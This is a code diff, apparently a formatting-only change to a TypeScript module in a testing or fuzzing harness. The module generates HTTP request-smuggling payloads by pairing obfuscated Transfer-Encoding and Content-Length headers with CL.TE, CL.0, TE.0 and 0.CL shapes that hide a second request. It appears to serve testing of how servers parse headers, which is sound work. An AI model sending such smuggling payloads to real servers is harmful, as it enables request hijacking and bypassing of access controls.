@@ -7,8 +7,16 @@ import { corpus } from "../ocs/corpus.ts";
 import { passesElsewhere } from "./elsewhere.ts";
 import { TARGET, latin1, secondRequest, type Payload } from "./payload.ts";
 
-type Gadget = { readonly name: string; readonly target: "Transfer-Encoding" | "Content-Length"; readonly header_b64: string; readonly dup: boolean };
-type Shape = (header: (length: number) => string, handle: number) => { readonly lines: readonly string[]; readonly body: string };
+type Gadget = {
+  readonly name: string;
+  readonly target: "Transfer-Encoding" | "Content-Length";
+  readonly header_b64: string;
+  readonly dup: boolean;
+};
+type Shape = (
+  header: (length: number) => string,
+  handle: number,
+) => { readonly lines: readonly string[]; readonly body: string };
 
 const smuggled = (handle: number): string => secondRequest(handle, basic("beta"));
 const chunked = (text: string): string => `${text.length.toString(16)}\r\n${text}\r\n0\r\n\r\n`;
@@ -22,7 +30,7 @@ const CODING: Readonly<Record<string, Shape>> = {
   },
   "CL.0": (header, handle) => withLength(header(0), smuggled(handle)),
   "TE.0": (header, handle) => ({ lines: [header(0)], body: chunked(smuggled(handle)) }),
-  "one": (header) => ({ lines: [header(0)], body: chunked(JSON_BODY) }),
+  one: (header) => ({ lines: [header(0)], body: chunked(JSON_BODY) }),
 };
 
 const LENGTH: Readonly<Record<string, Shape>> = {
@@ -35,11 +43,17 @@ const LENGTH: Readonly<Record<string, Shape>> = {
     return { lines: ["Transfer-Encoding: chunked", header(body.indexOf("\r\n") + 2)], body };
   },
   "CL.0": (header, handle) => ({ lines: [header(smuggled(handle).length)], body: smuggled(handle) }),
-  "0.CL": (header, handle) => ({ lines: ["Content-Length: 0", header(smuggled(handle).length)], body: smuggled(handle) }),
-  "one": (header) => ({ lines: [header(JSON_BODY.length)], body: JSON_BODY }),
+  "0.CL": (header, handle) => ({
+    lines: ["Content-Length: 0", header(smuggled(handle).length)],
+    body: smuggled(handle),
+  }),
+  one: (header) => ({ lines: [header(JSON_BODY.length)], body: JSON_BODY }),
 };
 
-const withLength = (line: string, body: string): ReturnType<Shape> => ({ lines: [`Content-Length: ${body.length}`, line], body });
+const withLength = (line: string, body: string): ReturnType<Shape> => ({
+  lines: [`Content-Length: ${body.length}`, line],
+  body,
+});
 
 const payload = (gadget: Gadget, [name, shape]: readonly [string, Shape], refusedElsewhere: boolean): Payload => {
   const text = lineOf(gadget);
@@ -56,17 +70,27 @@ const payload = (gadget: Gadget, [name, shape]: readonly [string, Shape], refuse
 };
 
 export const gadgets = (): Payload[] => {
-  const rows = corpus("smuggling-gadgets").lines("gadgets.jsonl").map((line) => JSON.parse(line) as Gadget).filter(({ dup }) => !dup);
-  const passes = { "Transfer-Encoding": passesElsewhere("gadgets TE+CL"), "Content-Length": passesElsewhere("gadgets CL") };
+  const rows = corpus("smuggling-gadgets")
+    .lines("gadgets.jsonl")
+    .map((line) => JSON.parse(line) as Gadget)
+    .filter(({ dup }) => !dup);
+  const passes = {
+    "Transfer-Encoding": passesElsewhere("gadgets TE+CL"),
+    "Content-Length": passesElsewhere("gadgets CL"),
+  };
   return rows.flatMap((gadget) =>
     Object.entries(gadget.target === "Content-Length" ? LENGTH : CODING).map((shape) =>
-      payload(gadget, shape, wasMeasured(gadget, shape[0]) && !passes[gadget.target](gadget.name))));
+      payload(gadget, shape, wasMeasured(gadget, shape[0]) && !passes[gadget.target](gadget.name)),
+    ),
+  );
 };
 
 /** Transfer-Encoding was measured beside a Content-Length alone. And nginx takes no tab for a blank, which RFC 9110 (5.5) says it is. */
-const wasMeasured = (gadget: Gadget, shape: string): boolean => (gadget.target === "Content-Length" ? !isTabbed(lineOf(gadget)) : shape === "CL.TE");
+const wasMeasured = (gadget: Gadget, shape: string): boolean =>
+  gadget.target === "Content-Length" ? !isTabbed(lineOf(gadget)) : shape === "CL.TE";
 
 const lineOf = ({ header_b64 }: Gadget): string => Buffer.from(header_b64, "base64").toString("latin1");
 
 /** The true field with a tab for a blank, and nothing else odd. */
-export const isTabbed = (line: string): boolean => /^(?:Transfer-Encoding|Content-Length):[ \t]*(?:chunked|\{N\}|\d+)[ \t]*$/i.test(line) && line.includes("\t");
+export const isTabbed = (line: string): boolean =>
+  /^(?:Transfer-Encoding|Content-Length):[ \t]*(?:chunked|\{N\}|\d+)[ \t]*$/i.test(line) && line.includes("\t");
